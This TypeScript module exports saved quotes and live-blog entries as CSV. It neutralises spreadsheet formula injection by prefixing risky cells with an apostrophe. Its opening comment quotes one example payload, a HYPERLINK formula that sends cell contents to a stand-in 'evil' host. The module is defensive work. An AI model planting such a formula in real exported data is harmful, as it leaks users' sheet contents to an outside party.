// CSV for spreadsheets (RFC 4180: quoted cells, doubled quotes, CRLF rows). Quote text comes from
// news pages, and a spreadsheet runs a cell starting with = + - @ (or a tab or carriage return
// that it trims first) as a formula: `=HYPERLINK("http://evil/?"&A1)` would leak the sheet. Such
// cells get a leading apostrophe, the OWASP remedy, so they are shown as text and never run.
import type { LibraryItem } from '../library/items';
import { cutAtBoundary } from '../protocol/entry-meta';

/**
 * The columns, in order. Times are ISO 8601 (UTC) so every spreadsheet reads them the same; the
 * time as the blog printed it is last, added after the others so that their positions never move.
 */
export const CSV_COLUMNS = [
  'type', 'kept_at', 'entry_time', 'speaker', 'text', 'note', 'entry_title', 'blog_title', 'site', 'link', 'blog_url', 'id',
  'entry_time_as_printed',
] as const;

// Full-width forms too: some spreadsheets normalise them to their ASCII twins before parsing.
const FORMULA_START = /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20]|^[\t\r]/;

/** A cell's text made inert: formula starts get a leading apostrophe. */
export function neutralise(cell: string): string {
  return FORMULA_START.test(cell) ? `'${cell}` : cell;
}

/** One cell: neutralised, then quoted when it holds a comma, quote or line break. */
export function csvCell(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return '';
  const text = neutralise(String(value));
  return /[",\r\n]/.test(text) ? `"${text.replace(/"/g, '""')}"` : text;
}

function row(item: LibraryItem): string[] {
  return [
    item.kind === 'quote' ? 'quote' : 'starred entry',
    new Date(item.kept).toISOString(),
    item.entryTime ?? '',
    item.speakers.join('; '),
    item.text,
    item.note ?? '',
    // Entries without a heading (most live-blog posts) are named by their first words.
    item.title || (item.kind === 'entry' ? cutAtBoundary(item.text, 80) : ''),
    item.blogTitle,
    item.site,
    item.link ?? '',
    item.blogUrl,
    item.kind === 'quote' ? item.key : (item.entryId ?? ''),
    item.timeLabel ?? '',
  ];
}

/** The items as CSV text: a header row, then one row per item in the given order. */
export function toCsv(items: readonly LibraryItem[]): string {
  const lines = [CSV_COLUMNS.join(',')];
  for (const item of items) lines.push(row(item).map(csvCell).join(','));
  return `${lines.join('\r\n')}\r\n`;
}
